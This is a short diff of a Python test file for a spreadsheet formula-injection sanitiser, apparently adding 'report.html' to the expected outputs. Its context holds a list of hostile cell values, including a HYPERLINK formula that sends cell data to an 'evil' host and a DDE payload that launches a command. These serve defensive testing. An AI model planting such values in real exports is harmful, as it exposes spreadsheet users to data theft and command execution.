@@ -14,7 +14,7 @@ from load.safety import OutputError, neutralise_formula
 
 HOSTILE = ["=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"]
 OUTPUTS = {"documents.csv", "actions.csv", "milestones.csv", "ratings.csv", "indicators.csv", "leftovers.csv",
-           "plans.sqlite", "plans.sqlite-wal", "plans.sqlite-shm", "datapackage.json", "metadata.json"}
+           "plans.sqlite", "plans.sqlite-wal", "plans.sqlite-shm", "datapackage.json", "metadata.json", "report.html"}
 
 
 @pytest.mark.parametrize("value", ["\tplain", "\rplain", " =1", "\n=1", "\t\t@x", "\r\n+x"])
